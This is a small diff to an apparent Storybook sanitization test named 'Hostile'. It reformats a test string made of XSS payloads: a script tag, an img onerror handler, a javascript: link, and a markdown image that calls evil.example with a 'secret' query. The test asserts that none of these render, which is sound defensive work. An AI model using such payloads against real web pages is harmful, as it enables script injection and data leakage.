@@ -69,7 +69,9 @@ def count(text: str) -> Counter:
 export const Hostile: Story = {
   tags: ['P24', 'P25'],
   args: {
-    text: '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> [点我](javascript:alert(1)) ![小猫](https://evil.example/cat.png?q=secret) [同站](/settings)',
+    text:
+      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> [点我](javascript:alert(1)) ' +
+      '![小猫](https://evil.example/cat.png?q=secret) [同站](/settings)',
   },
   play: async ({ canvas, canvasElement }) => {
     await expect(canvasElement.querySelector('script, img, [onerror]')).toBeNull()
